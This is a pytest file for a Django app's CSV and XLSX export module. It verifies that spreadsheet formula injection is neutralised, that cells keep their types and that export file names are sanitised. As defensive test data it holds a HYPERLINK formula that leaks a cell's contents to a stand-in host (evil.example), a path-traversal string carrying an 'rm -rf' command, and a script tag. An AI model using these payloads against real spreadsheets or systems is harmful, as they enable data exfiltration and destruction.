"""CSV / XLSX export (tandem.core.export): exact content, typed cells, safe file names,
and formula injection neutralised (QUALITY R8) in both formats, also end to end through
the contact list's export."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from tandem.core import export
from tests.clients.factories import make_account, make_contact
from tests.conftest import client_for

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
COLUMNS = [
    export.Column("Name", "name"),
    export.Column("Owner", "owner.name"),
    export.Column("Amount", "amount"),
    export.Column("When", "at"),
    export.Column("Day", "day"),
    export.Column("Flag", "flag"),
    export.Column("Upper", lambda row: row.name.upper()),
]


def row(name, *, owner=None, amount=None, at=None, day=None, flag=False):
    return SimpleNamespace(name=name, owner=owner, amount=amount, at=at, day=day, flag=flag)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Plain = text", "Plain = text"),
        ("", ""),
        ("'already", "'already"),
    ],
)
def test_neutralise(value, expected):
    assert export.neutralise(value) == expected


def test_cell_values_keep_their_type_and_text_is_neutralised(settings):
    settings.TIME_ZONE = "Europe/London"
    aware = dt.datetime(2025, 7, 1, 8, 30, 15, 999, tzinfo=dt.UTC)
    with timezone.override("Europe/London"):
        assert export.cell_value(aware) == dt.datetime(2025, 7, 1, 9, 30, 15)  # BST, no offset
    assert export.cell_value(Decimal("-12.50")) == Decimal("-12.50")  # a number, not text
    assert export.cell_value(-3) == -3
    assert export.cell_value(True) is True
    assert export.cell_value(dt.date(2025, 1, 2)) == dt.date(2025, 1, 2)
    assert export.cell_value(None) is None
    assert export.cell_value(HOSTILE) == "'" + HOSTILE


def test_csv_exact_content():
    rows = [
        row("Acme", owner=SimpleNamespace(name="Ann"), amount=Decimal("1200.50"),
            at=timezone.make_aware(dt.datetime(2025, 3, 1, 14, 5)), day=dt.date(2025, 3, 2), flag=True),
        row(HOSTILE),
        row('Quote "and", comma'),
    ]
    body = "".join(export.csv_lines(rows, COLUMNS))
    assert body == (
        "\ufeffName,Owner,Amount,When,Day,Flag,Upper\r\n"
        "Acme,Ann,1200.50,2025-03-01 14:05,2025-03-02,yes,ACME\r\n"
        '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",,,,,no,'
        '"\'=HYPERLINK(""HTTP://EVIL.EXAMPLE/?X=""&A1,""CLICK"")"\r\n'
        '"Quote ""and"", comma",,,,,no,"QUOTE ""AND"", COMMA"\r\n'
    )
    parsed = list(csv.reader(io.StringIO(body[1:])))
    assert parsed[2][0] == "'" + HOSTILE


def test_xlsx_cells_are_typed_and_never_formulas(tmp_path):
    rows = [
        row("Acme", amount=Decimal("1200.50"), at=timezone.make_aware(dt.datetime(2025, 3, 1, 14, 5)),
            day=dt.date(2025, 3, 2), flag=True),
        row(HOSTILE),
        row("@cmd"),
    ]
    target = tmp_path / "out.xlsx"
    assert export.write_xlsx(rows, COLUMNS, target, title="Accounts") == 3
    workbook = openpyxl.load_workbook(target)
    sheet = workbook.active
    assert sheet.title == "accounts"
    assert [cell.value for cell in sheet[1]] == ["Name", "Owner", "Amount", "When", "Day", "Flag", "Upper"]
    assert sheet["A2"].value == "Acme"
    assert sheet["C2"].value == 1200.5 and sheet["C2"].data_type == "n"
    assert sheet["D2"].value == dt.datetime(2025, 3, 1, 14, 5)
    assert sheet["F2"].value is True
    assert sheet["A3"].value == "'" + HOSTILE
    assert sheet["A3"].data_type == "s"  # text, not a formula
    assert sheet["A4"].value == "'@cmd" and sheet["A4"].data_type == "s"
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f"


def test_xlsx_stops_at_the_sheet_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "XLSX_MAX_ROWS", 2)
    target = tmp_path / "cap.xlsx"
    assert export.write_xlsx([row(f"R{number}") for number in range(5)], COLUMNS[:1], target) == 2
    assert [cell.value for (cell,) in openpyxl.load_workbook(target).active.iter_rows()] == ["Name", "R0", "R1"]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("accounts", "accounts-2025-04-05.csv"),
        ('../../etc/passwd"; rm -rf', "etcpasswd-rm-rf-2025-04-05.csv"),
        ("Contacts — Zoë Müller & Co", "contacts-zoe-muller-co-2025-04-05.csv"),
        ("<script>", "script-2025-04-05.csv"),
        ("", "export-2025-04-05.csv"),
    ],
)
def test_file_names_are_safe(name, expected):
    assert export.export_filename(name, "csv", today=dt.date(2025, 4, 5)) == expected


def test_requested_format():
    assert export.requested_format({"format": "CSV"}) == "csv"
    assert export.requested_format({"format": "xlsx"}) == "xlsx"
    assert export.requested_format({"format": "pdf"}) == ""
    assert export.requested_format({}) == ""
    with pytest.raises(ValueError, match="pdf"):
        export.export_response([], COLUMNS, name="x", file_format="pdf")


@pytest.mark.django_db
def test_contact_named_like_a_formula_exports_as_text(account_manager, settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    account = make_account(owner=account_manager, name="+Plus Corp")
    make_contact(account=account, first_name="@Ann", last_name=HOSTILE, email="ann@plus.example", job_title="-CFO")
    client = client_for(account_manager)
    url = reverse("clients:contact_list")

    response = client.get(url, {"format": "csv"})
    body = b"".join(response.streaming_content).decode()
    lines = list(csv.reader(io.StringIO(body[1:])))
    assert lines[1][:3] == ["'@Ann", "'" + HOSTILE, "ann@plus.example"]
    assert lines[1][5] == "'-CFO" and lines[1][7] == "'+Plus Corp"

    response = client.get(url, {"format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet["B2"].value == "'" + HOSTILE
    assert sheet["B2"].data_type == "s"
    assert sheet["A2"].value == "'@Ann" and sheet["H2"].value == "'+Plus Corp"
